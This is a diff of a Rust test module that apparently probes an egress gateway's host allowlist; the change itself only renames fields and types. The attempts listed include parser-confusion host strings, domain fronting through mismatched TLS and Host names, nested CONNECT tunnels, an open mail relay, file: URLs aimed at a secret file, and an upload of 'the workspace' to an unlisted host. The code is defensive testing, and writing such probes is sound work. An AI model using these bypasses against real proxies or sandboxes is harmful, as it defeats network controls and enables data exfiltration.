@@ -3,8 +3,8 @@
 use crate::{
     attempt::Attempt,
     client::{ask_for, get, open_tunnel, request, send_to_gateway, through_plain_tunnel, through_tls_tunnel},
+    context::Context,
     outcome::Observation,
-    scene::Scene,
 };
 
 const CONNECT: &str = "https://www.rfc-editor.org/rfc/rfc9110#section-9.3.6";
@@ -19,7 +19,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for a tunnel to a host that no route names",
         source: CONNECT,
-        make: |s| {
+        run: |s| {
             let host = s.unlisted_host.as_str();
             through_tls_tunnel(s, &format!("{host}:443"), Some(host), &get(s, host, "/"))
         },
@@ -29,14 +29,14 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for a page of a host that no route names",
         source: ABSOLUTE,
-        make: |s| send_to_gateway(s, &get(s, &s.unlisted_host, &format!("http://{}/", s.unlisted_host))),
+        run: |s| send_to_gateway(s, &get(s, &s.unlisted_host, &format!("http://{}/", s.unlisted_host))),
     },
     Attempt {
         id: "names.unlisted-post",
         promise: 2,
         what: "posts a file to a host that no route names",
         source: ABSOLUTE,
-        make: |s| {
+        run: |s| {
             let target = format!("http://{}/upload", s.unlisted_host);
             send_to_gateway(s, &request(s, "POST", &s.unlisted_host, &target, "", b"the workspace"))
         },
@@ -46,7 +46,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "hides the allowed host in the user information of an unlisted one",
         source: NOTATIONS,
-        make: |s| {
+        run: |s| {
             let target = format!("http://{}@{}/", s.allowed_host, s.unlisted_host);
             Observation::all([
                 send_to_gateway(s, &get(s, &s.unlisted_host, &target)),
@@ -64,7 +64,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "writes the two hosts so that parsers disagree: `unlisted#@allowed`, `unlisted\\@allowed`, `unlisted;allowed`",
         source: NOTATIONS,
-        make: |s| {
+        run: |s| {
             Observation::all(["#@", "\\@", "%23@", ";", "%00.", "?@"].map(|between| {
                 let target = format!("http://{}{between}{}/", s.unlisted_host, s.allowed_host);
                 send_to_gateway(s, &get(s, &s.allowed_host, &target))
@@ -76,63 +76,63 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "writes the unlisted host with a trailing dot",
         source: "https://www.rfc-editor.org/rfc/rfc1034#section-3.1",
-        make: |s| ask_for(s, &format!("{}.", s.unlisted_host), 443),
+        run: |s| ask_for(s, &format!("{}.", s.unlisted_host), 443),
     },
     Attempt {
         id: "names.unlisted-upper-case",
         promise: 2,
         what: "writes the unlisted host in upper case",
         source: "https://www.rfc-editor.org/rfc/rfc4343",
-        make: |s| ask_for(s, &s.unlisted_host.to_ascii_uppercase(), 443),
+        run: |s| ask_for(s, &s.unlisted_host.to_ascii_uppercase(), 443),
     },
     Attempt {
         id: "names.unlisted-percent-encoded",
         promise: 2,
         what: "writes the unlisted host percent-encoded",
         source: "https://www.rfc-editor.org/rfc/rfc3986#section-3.2.2",
-        make: |s| ask_for(s, &s.unlisted_host.replace('.', "%2e"), 443),
+        run: |s| ask_for(s, &s.unlisted_host.replace('.', "%2e"), 443),
     },
     Attempt {
         id: "names.unlisted-full-width",
         promise: 2,
         what: "writes the unlisted host with full-width letters and dots, which fold to it",
         source: "https://www.unicode.org/reports/tr46/",
-        make: |s| ask_for(s, &s.unlisted_host.replace('.', "\u{3002}").replace('u', "\u{ff55}"), 443),
+        run: |s| ask_for(s, &s.unlisted_host.replace('.', "\u{3002}").replace('u', "\u{ff55}"), 443),
     },
     Attempt {
         id: "names.prefix-look-alike",
         promise: 2,
         what: "asks for a host whose name ends in the allowed one without a dot between",
         source: "https://cwe.mitre.org/data/definitions/625.html",
-        make: |s| ask_for(s, &format!("evil{}", s.allowed_host), 443),
+        run: |s| ask_for(s, &format!("evil{}", s.allowed_host), 443),
     },
     Attempt {
         id: "names.suffix-look-alike",
         promise: 2,
         what: "asks for a host below the unlisted one whose name begins with the allowed one",
         source: "https://cwe.mitre.org/data/definitions/625.html",
-        make: |s| ask_for(s, &format!("{}.{}", s.allowed_host, s.unlisted_host), 443),
+        run: |s| ask_for(s, &format!("{}.{}", s.allowed_host, s.unlisted_host), 443),
     },
     Attempt {
         id: "names.below-allowed",
         promise: 2,
         what: "asks for a host below the allowed one, which its route is not for",
         source: "https://cwe.mitre.org/data/definitions/183.html",
-        make: |s| ask_for(s, &format!("data.{}", s.allowed_host), 443),
+        run: |s| ask_for(s, &format!("data.{}", s.allowed_host), 443),
     },
     Attempt {
         id: "names.parent-of-allowed",
         promise: 2,
         what: "asks for the domain that the allowed host lies in",
         source: "https://cwe.mitre.org/data/definitions/183.html",
-        make: |s| ask_for(s, s.allowed_host.split_once('.').map_or("test", |(_, parent)| parent), 443),
+        run: |s| ask_for(s, s.allowed_host.split_once('.').map_or("test", |(_, parent)| parent), 443),
     },
     Attempt {
         id: "names.other-ports",
         promise: 2,
         what: "asks for tunnels to other ports of the allowed host: 22, 25, 53, 8080, 8443",
         source: OPEN_RELAY,
-        make: |s| {
+        run: |s| {
             Observation::all([22, 25, 53, 8080, 8443].map(|port| {
                 let authority = format!("{}:{port}", s.allowed_host);
                 through_tls_tunnel(
@@ -149,7 +149,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 9,
         what: "asks for tunnels to ports that are none: 0, 65979 (443 modulo 65536), -1, nothing",
         source: "https://cwe.mitre.org/data/definitions/190.html",
-        make: |s| {
+        run: |s| {
             Observation::all(["0", "65979", "-1", "", "443:443", "0x1bb"].map(|port| {
                 let authority = format!("{}:{port}", s.unlisted_host);
                 through_plain_tunnel(s, &authority, &get(s, &authority, "/"))
@@ -161,14 +161,14 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for a tunnel to port 25 of an unlisted host, to send mail",
         source: "https://www.kb.cert.org/vuls/id/150227",
-        make: |s| through_plain_tunnel(s, &format!("{}:25", s.unlisted_host), b"HELO probe\r\n"),
+        run: |s| through_plain_tunnel(s, &format!("{}:25", s.unlisted_host), b"HELO probe\r\n"),
     },
     Attempt {
         id: "names.host-header-differs",
         promise: 2,
         what: "opens a tunnel to the allowed host and names an unlisted one in the Host header",
         source: FRONTING,
-        make: |s| {
+        run: |s| {
             let authority = format!("{}:443", s.allowed_host);
             through_tls_tunnel(s, &authority, Some(&s.allowed_host), &get(s, &s.unlisted_host, "/v1/"))
         },
@@ -178,7 +178,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "opens a tunnel to the allowed host and asks in it for the absolute URL of an unlisted one",
         source: ABSOLUTE,
-        make: |s| {
+        run: |s| {
             let authority = format!("{}:443", s.allowed_host);
             Observation::all(["http", "https"].map(|scheme| {
                 let target = format!("{scheme}://{}/v1/", s.unlisted_host);
@@ -191,7 +191,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "opens a tunnel to the allowed host and names an unlisted one as TLS server name",
         source: FRONTING,
-        make: |s| {
+        run: |s| {
             let authority = format!("{}:443", s.allowed_host);
             through_tls_tunnel(s, &authority, Some(&s.unlisted_host), &get(s, &s.unlisted_host, "/v1/"))
         },
@@ -201,7 +201,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "tunnels to an unlisted host under the allowed one's name, in TLS and Host",
         source: FRONTING,
-        make: |s| {
+        run: |s| {
             let authority = format!("{}:443", s.unlisted_host);
             through_tls_tunnel(s, &authority, Some(&s.allowed_host), &get(s, &s.allowed_host, "/v1/"))
         },
@@ -211,7 +211,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for an unlisted host's URL with the allowed one in the Host header",
         source: ABSOLUTE,
-        make: |s| {
+        run: |s| {
             Observation::all([
                 send_to_gateway(s, &get(s, &s.open_host, &format!("http://{}/", s.unlisted_host))),
                 send_to_gateway(s, &get(s, &s.unlisted_host, &format!("http://{}/", s.open_host))),
@@ -223,7 +223,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for a second tunnel, to an unlisted host, inside the tunnel to the allowed one",
         source: CONNECT,
-        make: |s| {
+        run: |s| {
             let inner = format!("CONNECT {0}:443 HTTP/1.1\r\nHost: {0}:443\r\n\r\n", s.unlisted_host);
             let authority = format!("{}:443", s.allowed_host);
             Observation::all([
@@ -237,14 +237,14 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 2,
         what: "asks for a tunnel to an unlisted host with the allowed one in the Host header",
         source: CONNECT,
-        make: tunnel_with_forged_host,
+        run: tunnel_with_forged_host,
     },
     Attempt {
         id: "names.other-schemes",
         promise: 2,
         what: "asks the gateway for ftp:, file:, gopher:, ws: and unix: URLs",
         source: NOTATIONS,
-        make: |s| {
+        run: |s| {
             let unlisted = &s.unlisted_host;
             let secret = s.secret_file.display().to_string();
             Observation::all(
@@ -265,7 +265,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         promise: 9,
         what: "asks for a name that is too long, with empty labels and with control characters",
         source: "https://www.rfc-editor.org/rfc/rfc1035#section-2.3.4",
-        make: |s| {
+        run: |s| {
             let long = format!("{}.{}", "a.".repeat(200), s.unlisted_host);
             let tab = format!("{}\t{}", s.unlisted_host, s.allowed_host);
             let empty = s.unlisted_host.replace('.', "..");
@@ -277,29 +277,29 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
     },
 ];
 
-fn tunnel_with_forged_host(scene: &Scene) -> Observation {
+fn tunnel_with_forged_host(context: &Context) -> Observation {
     let forged = format!(
         "CONNECT {}:443 HTTP/1.1\r\nHost: {}:443\r\nX-Attempt: {}\r\n\r\n",
-        scene.unlisted_host,
-        scene.allowed_host,
-        scene.tag()
+        context.unlisted_host,
+        context.allowed_host,
+        context.tag()
     );
-    let mut stream = match crate::client::dial_gateway(scene) {
+    let mut stream = match crate::client::dial_gateway(context) {
         Ok(stream) => stream,
         Err(observation) => return observation,
     };
-    let first = crate::client::exchange_head(scene, &mut stream, forged.as_bytes());
+    let first = crate::client::exchange_head(context, &mut stream, forged.as_bytes());
     match first {
         Err(observation) => observation,
         Ok(()) => {
             match crate::client::start_tls(
                 stream,
-                Some(&scene.unlisted_host),
+                Some(&context.unlisted_host),
                 crate::client::trusting_anything(),
             ) {
                 Err(error) => Observation::refused(format!("TLS was refused: {error}")),
                 Ok(mut tls) => {
-                    crate::client::exchange(scene, &mut tls, &get(scene, &scene.unlisted_host, "/"))
+                    crate::client::exchange(context, &mut tls, &get(context, &context.unlisted_host, "/"))
                 }
             }
         }
